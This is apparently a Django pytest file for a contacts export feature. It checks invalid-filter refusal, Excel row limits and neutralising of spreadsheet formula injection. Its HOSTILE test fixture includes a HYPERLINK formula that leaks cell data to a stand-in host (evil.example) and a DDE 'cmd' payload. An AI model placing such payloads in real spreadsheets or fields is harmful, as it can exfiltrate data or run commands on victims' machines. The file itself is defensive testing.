"""Exports: an invalid filter exports nothing, no cell runs as a formula, Excel's row limit."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import translation

from contacts import exporters
from contacts.models import ContactTag, CustomField
from core.errors import ValidationFailed
from core.models import AuditLog, Job, JobStatus
from tests.factories import ContactFactory, TagFactory, UserFactory

pytestmark = pytest.mark.django_db

# What an API client can put into a nickname, a city or a custom field, and a tag's name.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "nickname": "+SUM(1+1)*cmd|' /C calc'!A0",
    "province": "-2+3",
    "city": "@SUM(A1:A9)",
    "source": "\t=1+1",
    "channel_code": "\r=1+1",
}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture(autouse=True)
def english(settings):
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


@pytest.fixture
def boss():
    return UserFactory(username="boss")


def _export(user, capture, *, filters=None, fmt="csv") -> Job:
    with capture(execute=True):
        job = exporters.export_start(user=user, filters=filters or {}, fmt=fmt)
    job.refresh_from_db()
    return job


def _csv_rows(media, job: Job) -> list[dict[str, str]]:
    text = (media / job.output_file).read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def _xlsx_rows(media, job: Job) -> list[dict[str, openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(media / job.output_file).worksheets[0]
    header, *rows = sheet.iter_rows()
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


# --- An invalid filter ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "filters",
    [{"tag": ["99999"]}, {"created_from": "garbage"}, {"lifecycle_stage": "nope"}],
)
def test_an_invalid_filter_is_refused_instead_of_exporting_everyone(boss, filters):
    ContactFactory.create_batch(2)
    with pytest.raises(ValidationFailed) as exc:
        exporters.export_start(user=boss, filters=filters, fmt="csv")
    assert exc.value.code == "invalid_filter"
    assert exc.value.message.startswith("Some filters are invalid:")
    assert not Job.objects.exists()


def test_the_export_page_never_starts_an_export_of_an_invalid_filter(client, boss):
    ContactFactory.create_batch(2)
    client.force_login(boss)
    response = client.post(reverse("contacts_io:export") + "?tag=99999", {"format": "csv"})
    assert response.status_code < 500
    assert not Job.objects.exists()


def test_an_export_whose_tag_was_deleted_before_it_ran_fails_instead_of_widening(
    media, boss, django_capture_on_commit_callbacks
):
    tag = TagFactory(name="双11")
    ContactTag.objects.create(contact=ContactFactory(), tag=tag)
    ContactFactory()
    with django_capture_on_commit_callbacks(execute=False):
        job = exporters.export_start(user=boss, filters={"tag": [str(tag.pk)]})
    tag.delete()

    exporters.export_run(job_id=job.pk)

    job.refresh_from_db()
    assert job.status == JobStatus.FAILED
    assert job.error.startswith("Some filters are invalid:")
    assert not job.output_file and not list(media.rglob("*.csv"))
    assert not AuditLog.objects.filter(action="contacts_export").exists()


# --- Formula injection ------------------------------------------------------------------------


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(
    media, boss, django_capture_on_commit_callbacks
):
    CustomField.objects.create(key="remark", label="备注", kind="text")
    CustomField.objects.create(key="budget", label="预算", kind="number")
    contact = ContactFactory(
        **HOSTILE, phone="+8613800138000", attributes={"remark": "=1+1", "budget": -5}
    )
    ContactTag.objects.create(contact=contact, tag=TagFactory(name="=cmd"))

    (row,) = _csv_rows(media, _export(boss, django_capture_on_commit_callbacks))

    assert row["Name"] == "'" + HOSTILE["name"]
    assert row["Nickname"] == "'" + HOSTILE["nickname"]
    assert row["Province"] == "'-2+3"
    assert row["City"] == "'@SUM(A1:A9)"
    assert row["Source"] == "'\t=1+1"
    assert row["Channel code"] == "'\r=1+1"
    assert row["Tags"] == "'=cmd"
    assert row["备注"] == "'=1+1"
    # Numbers stay numbers, and a phone in E.164 stays dialable and re-importable.
    assert row["预算"] == "-5"
    assert row["Phone"] == "+8613800138000"


def test_masked_phones_stay_readable_and_a_phone_that_is_no_number_is_neutralised(
    media, django_capture_on_commit_callbacks
):
    ContactFactory(name="a", phone="+8613800138000")
    ContactFactory(name="b", phone="=1+1")
    ContactFactory(name="c", phone="+86 138=A1")
    user = UserFactory(username="clerk", is_superuser=False, is_staff=False)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["export_contact", "view_contact"])
    )
    user = type(user).objects.get(pk=user.pk)

    rows = _csv_rows(media, _export(user, django_capture_on_commit_callbacks))

    phones = {row["Name"]: row["Phone"] for row in rows}
    assert phones["a"] == "+86138****8000"
    assert phones["b"] == "'=1+1"
    assert phones["c"].startswith("'+")


def test_xlsx_cells_are_text_never_formulas(media, boss, django_capture_on_commit_callbacks):
    CustomField.objects.create(key="budget", label="预算", kind="number")
    ContactFactory(
        **{**HOSTILE, "nickname": "#N/A"}, phone="+8613800138000", attributes={"budget": -5}
    )

    (row,) = _xlsx_rows(media, _export(boss, django_capture_on_commit_callbacks, fmt="xlsx"))

    # A typed text cell is never run, so the text is kept as it is, without the CSV's quote.
    assert (row["Name"].value, row["Name"].data_type) == (HOSTILE["name"], "s")
    assert (row["Nickname"].value, row["Nickname"].data_type) == ("#N/A", "s")
    assert (row["Province"].value, row["Province"].data_type) == ("-2+3", "s")
    assert (row["City"].value, row["City"].data_type) == ("@SUM(A1:A9)", "s")
    assert (row["Source"].value, row["Source"].data_type) == ("\t=1+1", "s")
    assert (row["Phone"].value, row["Phone"].data_type) == ("+8613800138000", "s")
    assert (row["预算"].value, row["预算"].data_type) == (-5, "n")
    assert not [cell for cell in row.values() if cell.data_type in ("f", "e")]


# --- Excel's row limit ------------------------------------------------------------------------


def test_an_xlsx_export_beyond_excels_rows_is_refused_before_any_work(
    media, boss, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exporters, "XLSX_MAX_ROWS", 2)
    ContactFactory.create_batch(2, city="上海")
    ContactFactory(city="北京")

    with pytest.raises(ValidationFailed) as exc:
        exporters.export_start(user=boss, filters={}, fmt="xlsx")
    assert exc.value.code == "too_many_rows"
    assert "CSV" in exc.value.message
    assert not Job.objects.exists()

    job = _export(boss, django_capture_on_commit_callbacks, fmt="csv")
    assert job.status == JobStatus.SUCCEEDED and job.result["rows"] == 3
    at_limit = _export(
        boss, django_capture_on_commit_callbacks, fmt="xlsx", filters={"city": "上海"}
    )
    assert at_limit.status == JobStatus.SUCCEEDED


def test_an_xlsx_export_that_grew_beyond_excels_rows_fails_without_a_file(
    media, boss, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exporters, "XLSX_MAX_ROWS", 2)
    ContactFactory.create_batch(2)
    with django_capture_on_commit_callbacks(execute=False):
        job = exporters.export_start(user=boss, filters={}, fmt="xlsx")
    ContactFactory()

    exporters.export_run(job_id=job.pk)

    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and "CSV" in job.error
    assert not list(media.rglob("*.xlsx"))


def test_the_export_page_says_why_an_invalid_filter_is_refused(client, boss):
    ContactFactory.create_batch(2)
    client.force_login(boss)
    page = client.get(reverse("contacts_io:export") + "?tag=99999")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Some filters are invalid" in html
    assert 'class="btn btn-primary" disabled' in html
    response = client.post(reverse("contacts_io:export") + "?tag=99999", {"format": "csv"})
    assert response.status_code == 200
    assert not Job.objects.exists()
